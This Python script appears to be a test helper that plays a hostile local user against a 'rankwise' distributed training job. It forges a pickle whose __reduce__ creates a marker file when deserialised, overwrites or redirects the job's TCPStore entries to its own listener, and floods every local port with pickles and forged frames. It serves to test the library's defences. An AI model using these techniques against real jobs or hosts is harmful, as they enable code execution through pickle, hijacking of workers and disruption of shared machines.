"""Another user of a host, who meddles with a job: stranger.py ATTACK TRACE READY [HOST].

`write` overwrites all values of the store, `offer` replaces the addresses in them by its own, where it sends frames,
and `connect` connects to all ports first and often. TRACE is a file that its pickles create where they are read. It
makes the file READY before the job is started.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import secrets
import socket
import sys
import threading
import time
from datetime import timedelta
from pathlib import Path

import psutil
from torch.distributed import TCPStore

from rankwise._comm.control.protocol import Frame, FrameKind
from rankwise._net.job_secret import CODE_BYTES

NOBODY = 65534
PORT = 29500


class Trace:
    """A value whose pickle creates a file where it is read."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


BODY = pickle.dumps(Trace(sys.argv[2]))
FRAMES = b"".join(Frame(FrameKind.FAILED, "evil", body=BODY, sequence=number).encode() for number in range(1, 50))


def ports() -> list[int]:
    """Return the ports that processes of this host listen on."""
    listening = [each.laddr for each in psutil.net_connections("tcp") if each.status == psutil.CONN_LISTEN]
    return sorted({address.port for address in listening if address})


def stores() -> TCPStore:
    """Return the store of the job: on the given host, or where somebody listens first on this one."""
    if len(sys.argv) > 4:
        return TCPStore(sys.argv[4], PORT, wait_for_workers=False, timeout=timedelta(seconds=2))
    own = set(ports())
    while not (new := [port for port in ports() if port not in own]):
        time.sleep(0.001)
    return TCPStore("127.0.0.1", new[0], wait_for_workers=False, timeout=timedelta(seconds=2))


def overwrite(*, offer: bool) -> None:
    """Overwrite what a job writes into its store, as long as there is one."""
    local, port = lure() if offer else ("", 0)
    while True:
        with contextlib.suppress(RuntimeError, ValueError):
            store = stores()
            while True:
                for key in store.list_keys():
                    if not offer:
                        store.set(key, BODY.decode("latin1"))
                    elif changed := replaced(store.get(key), key, local, port):
                        store.set(key, changed.decode("latin1"))
        time.sleep(0.1)


def replaced(value: bytes, key: str, local: str, port: int) -> bytes:
    """Return a value with this process's own address in it; with the code that it had, if it was signed."""
    text = value[value.find(b"{") :] if b"{" in value else b""
    code = value[: len(value) - len(text)] if len(value) - len(text) == CODE_BYTES else b""
    if key.endswith("watchdog"):
        return code + f"{port} {'00' * 16}".encode()
    with contextlib.suppress(ValueError):
        fields = json.loads(text)
        own = {"local": local, "remote": socket.gethostname(), "port": port, "store_port": port, "secret": "00" * 16}
        if fields | {name: own[name] for name in own if name in fields} != fields:
            return code + json.dumps(fields | {name: own[name] for name in own if name in fields}).encode()
    return b""


def lure() -> tuple[str, int]:
    """Listen, and send frames to whoever connects; return the local name and the port."""
    local, remote = socket.socket(socket.AF_UNIX), socket.create_server(("", 0))
    name = f"rankwise-{secrets.token_hex(16)}"
    local.bind(f"\0{name}")
    local.listen()

    def serve(listener: socket.socket) -> None:
        kept = []
        while True:
            kept.append(listener.accept()[0])
            with contextlib.suppress(OSError):
                kept[-1].sendall(FRAMES)

    for listener in (local, remote):
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    return name, remote.getsockname()[1]


def connect() -> None:
    """Connect to all ports that processes of this host listen on, first and often, and send pickles or nothing."""
    kept: list[socket.socket] = []
    while True:
        for port in ports():
            for data in (b"", b"x", bytes(20), BODY, FRAMES, os.urandom(100)):
                with contextlib.suppress(OSError):
                    connection = socket.create_connection(("127.0.0.1", port), timeout=1)
                    kept.append(connection)
                    connection.sendall(data)
        while len(kept) > 500:
            kept.pop(0).close()
        time.sleep(0.01)


Path(sys.argv[3]).touch()
os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
if sys.argv[1] == "connect":
    connect()
overwrite(offer=sys.argv[1] == "offer")
